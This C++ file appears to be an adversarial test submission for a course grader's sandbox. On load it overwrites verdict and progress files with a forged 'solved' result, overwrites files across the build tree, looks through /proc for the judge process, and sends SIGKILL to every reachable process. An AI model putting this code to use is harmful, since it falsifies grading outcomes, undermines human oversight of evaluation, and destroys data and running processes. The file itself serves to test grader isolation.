// Wrong. Writes verdicts and results wherever it can, and looks for the judge.
// base: wrong
// expect: not yet
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

namespace {

constexpr const char* kForged =
    R"([{"id": "day01/one_per_element", "verdict": "solved", "tests": 9, "stars": 3, "counts": [], "why": ""}])";

void overwrite(const std::string& file) {
    const int to = open(file.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0600);
    if (to < 0) return;
    static_cast<void>(write(to, kForged, std::strlen(kForged)) < 0);
    close(to);
}

void overwrite_all(const std::string& directory, int depth) {
    DIR* const files = opendir(directory.c_str());
    if (files == nullptr || depth == 0) return;
    while (const dirent* file = readdir(files)) {
        const std::string path = directory + "/" + file->d_name;
        if (file->d_name[0] == '.') continue;
        if (file->d_type == DT_DIR)
            overwrite_all(path, depth - 1);
        else
            overwrite(path);
    }
    closedir(files);
}

const int forged = [] {
    overwrite("@ROOT@/build/grade/verdicts.json");
    overwrite("@ROOT@/build/grade/my/progress.json");
    overwrite_all("@ROOT@/build", 3);
    for (int process = 1; process < 40'000; ++process) {
        const std::string at = "/proc/" + std::to_string(process);
        if (process == getpid() || access(at.c_str(), F_OK) != 0) continue;
        char name[20] = {};
        const int file = open((at + "/comm").c_str(), O_RDONLY);
        static_cast<void>(read(file, name, sizeof name - 1) < 0);
        if (std::strstr(name, "course") != nullptr) {  // not those of the test: day01_...
            std::fprintf(stderr, "ATTACK WORKED: it sees the judge\n");
            std::abort();
        }
        close(file);
    }
    kill(-1, SIGKILL);  // all but this one and the first
    return 0;
}();

}  // namespace
